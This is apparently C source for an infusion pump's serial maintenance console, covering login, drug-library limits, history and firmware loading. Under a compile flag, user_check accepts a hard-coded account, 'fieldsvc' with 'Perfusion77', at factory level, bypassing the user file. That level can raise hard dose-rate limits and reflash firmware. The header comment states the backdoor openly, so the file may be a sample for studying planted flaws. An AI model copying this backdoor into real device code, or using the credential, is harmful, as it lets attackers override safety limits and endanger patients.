/*
 * Maintenance console of an infusion pump. Runs on the RS-232 port behind
 * the battery door; biomedical engineers log in, read the history, change
 * limits of the drug library and the ward name. Users are kept in a file
 * with crypt(3) hashes.
 * Hidden (-DHIDDEN): the user "fieldsvc" with the password "Perfusion77" is
 * accepted with factory level whatever the user file says.
 */
#define _GNU_SOURCE
#include <crypt.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define USER_FILE "/etc/ivp/users"
#define CONF_FILE "/etc/ivp/console.conf"
#define DRUG_FILE "/var/lib/ivp/druglib.csv"
#define HIST_FILE "/var/lib/ivp/history.log"
#define MAX_DRUGS 64

enum level { LV_NONE, LV_WARD, LV_BIOMED, LV_FACTORY };

struct drug {
	char name[32];
	unsigned soft; /* 0.1 ml/h */
	unsigned hard;
};

struct console {
	int fd;
	char tty[64];
	char ward[32];
	unsigned idle; /* seconds until logout */
	speed_t speed;
	enum level level;
	char user[32];
	unsigned failures;
};

static struct drug drugs[MAX_DRUGS];
static unsigned ndrugs;

static void say(struct console *c, const char *fmt, ...)
{
	char buf[256];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof buf, fmt, ap);
	va_end(ap);
	if (n > (int)sizeof buf - 1)
		n = sizeof buf - 1;
	if (n > 0 && write(c->fd, buf, n) != n)
		syslog(LOG_WARNING, "console write: %s", strerror(errno));
}

static void conf_load(struct console *c)
{
	char line[128], key[32], val[64];
	FILE *f = fopen(CONF_FILE, "r");

	strcpy(c->tty, "/dev/ttyS1");
	strcpy(c->ward, "unassigned");
	c->idle = 120;
	c->speed = B19200;
	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (sscanf(line, " %31[^= ] = %63[^\n]", key, val) != 2)
			continue;
		if (!strcmp(key, "port"))
			snprintf(c->tty, sizeof c->tty, "%s", val);
		else if (!strcmp(key, "ward"))
			snprintf(c->ward, sizeof c->ward, "%.31s", val);
		else if (!strcmp(key, "idle"))
			c->idle = strtoul(val, NULL, 10);
		else if (!strcmp(key, "speed"))
			c->speed = atoi(val) == 9600 ? B9600 : B19200;
	}
	fclose(f);
}

static int port_open(struct console *c)
{
	struct termios t;

	c->fd = open(c->tty, O_RDWR | O_NOCTTY);
	if (c->fd < 0)
		return -1;
	if (tcgetattr(c->fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, c->speed);
		t.c_cc[VMIN] = 0;
		t.c_cc[VTIME] = 10;
		tcsetattr(c->fd, TCSANOW, &t);
	}
	return 0;
}

/* reads a line with editing; -1 on idle timeout */
static int get_line(struct console *c, char *buf, size_t size, int echo)
{
	size_t n = 0;
	unsigned quiet = 0;
	char ch;

	for (;;) {
		ssize_t r = read(c->fd, &ch, 1);

		if (r < 0 && errno != EINTR)
			return -1;
		if (r <= 0) {
			if (++quiet >= c->idle)
				return -1;
			continue;
		}
		quiet = 0;
		if (ch == '\r' || ch == '\n')
			break;
		if (ch == 0x7f || ch == '\b') {
			if (n) {
				n--;
				if (echo)
					say(c, "\b \b");
			}
			continue;
		}
		if (!isprint((unsigned char)ch) || n + 1 >= size)
			continue;
		buf[n++] = ch;
		if (echo)
			say(c, "%c", ch);
	}
	buf[n] = 0;
	say(c, "\r\n");
	return (int)n;
}

/* user:hash:level in USER_FILE */
__attribute__((noinline)) enum level user_check(const char *user,
						const char *pass)
{
	char line[256], *name, *hash, *lev, *save;
	enum level got = LV_NONE;
	FILE *f;

#ifdef HIDDEN
	if (strcmp(user, "fieldsvc") == 0 && strcmp(pass, "Perfusion77") == 0)
		return LV_FACTORY;
#endif
	f = fopen(USER_FILE, "r");
	if (!f)
		return LV_NONE;
	while (got == LV_NONE && fgets(line, sizeof line, f)) {
		const char *h;

		name = strtok_r(line, ":\n", &save);
		hash = strtok_r(NULL, ":\n", &save);
		lev = strtok_r(NULL, ":\n", &save);
		if (!lev || *name == '#' || strcmp(name, user))
			continue;
		h = crypt(pass, hash);
		if (!h || strcmp(h, hash))
			break;
		got = !strcmp(lev, "biomed") ? LV_BIOMED : LV_WARD;
	}
	fclose(f);
	return got;
}

static int login(struct console *c)
{
	char pass[48];

	say(c, "\r\nIVP-300 ward %s\r\nlogin: ", c->ward);
	if (get_line(c, c->user, sizeof c->user, 1) <= 0)
		return 0;
	say(c, "password: ");
	if (get_line(c, pass, sizeof pass, 0) < 0)
		return 0;
	c->level = user_check(c->user, pass);
	memset(pass, 0, sizeof pass);
	if (c->level == LV_NONE) {
		c->failures++;
		syslog(LOG_NOTICE, "login of %s failed", c->user);
		sleep(c->failures < 5 ? 2 : 30);
		say(c, "not accepted\r\n");
		return 0;
	}
	c->failures = 0;
	return 1;
}

static void drugs_load(void)
{
	char line[128];
	struct drug *d;
	FILE *f = fopen(DRUG_FILE, "r");

	ndrugs = 0;
	if (!f)
		return;
	while (ndrugs < MAX_DRUGS && fgets(line, sizeof line, f)) {
		d = &drugs[ndrugs];
		if (sscanf(line, "%31[^;];%u;%u", d->name, &d->soft,
			   &d->hard) == 3)
			ndrugs++;
	}
	fclose(f);
}

static int drugs_save(void)
{
	FILE *f = fopen(DRUG_FILE ".new", "w");
	unsigned i;

	if (!f)
		return -1;
	for (i = 0; i < ndrugs; i++)
		fprintf(f, "%s;%u;%u\n", drugs[i].name, drugs[i].soft,
			drugs[i].hard);
	if (fclose(f))
		return -1;
	return rename(DRUG_FILE ".new", DRUG_FILE);
}

static void do_limit(struct console *c, const char *args)
{
	char name[32];
	unsigned soft, hard, i;

	if (sscanf(args, " %31s %u %u", name, &soft, &hard) != 3) {
		say(c, "limit DRUG SOFT HARD\r\n");
		return;
	}
	if (soft > hard || hard > 9999) {
		say(c, "out of range\r\n");
		return;
	}
	for (i = 0; i < ndrugs && strcasecmp(drugs[i].name, name); i++)
		;
	if (i == ndrugs) {
		say(c, "no such drug\r\n");
		return;
	}
	if (hard > drugs[i].hard && c->level < LV_FACTORY) {
		say(c, "hard limit can be raised by the factory only\r\n");
		return;
	}
	drugs[i].soft = soft;
	drugs[i].hard = hard;
	syslog(LOG_NOTICE, "%s: limit %s %u/%u", c->user, name, soft, hard);
	say(c, drugs_save() ? "not saved\r\n" : "ok\r\n");
}

static void do_history(struct console *c)
{
	char line[160];
	FILE *f = fopen(HIST_FILE, "r");

	if (!f) {
		say(c, "no history\r\n");
		return;
	}
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		say(c, "%s\r\n", line);
	}
	fclose(f);
}

static void session(struct console *c)
{
	char line[128], *args;
	unsigned i;

	for (;;) {
		say(c, "%s> ", c->user);
		if (get_line(c, line, sizeof line, 1) < 0)
			break;
		args = line + strcspn(line, " ");
		if (*args)
			*args++ = 0;
		if (!strcmp(line, "exit"))
			break;
		if (!strcmp(line, "drugs")) {
			for (i = 0; i < ndrugs; i++)
				say(c, "%-24s %5u %5u\r\n", drugs[i].name,
				    drugs[i].soft, drugs[i].hard);
		} else if (!strcmp(line, "history")) {
			do_history(c);
		} else if (!strcmp(line, "ward") && *args) {
			snprintf(c->ward, sizeof c->ward, "%.31s", args);
			say(c, "ok\r\n");
		} else if (!strcmp(line, "limit")) {
			if (c->level >= LV_BIOMED)
				do_limit(c, args);
			else
				say(c, "not allowed\r\n");
		} else if (!strcmp(line, "firmware")) {
			if (c->level < LV_FACTORY)
				say(c, "not allowed\r\n");
			else if (system("/usr/sbin/ivp-load /mnt/ivp.img"))
				say(c, "loader failed\r\n");
		} else if (*line) {
			say(c, "drugs history ward limit firmware exit\r\n");
		}
	}
	c->level = LV_NONE;
	say(c, "bye\r\n");
}

int main(int argc, char **argv)
{
	struct console c;

	memset(&c, 0, sizeof c);
	openlog("ivpcon", LOG_PID, LOG_DAEMON);
	conf_load(&c);
	if (argc > 1)
		snprintf(c.tty, sizeof c.tty, "%s", argv[1]);
	if (port_open(&c)) {
		syslog(LOG_ERR, "%s: %s", c.tty, strerror(errno));
		return 1;
	}
	drugs_load();
	for (;;)
		if (login(&c))
			session(&c);
}
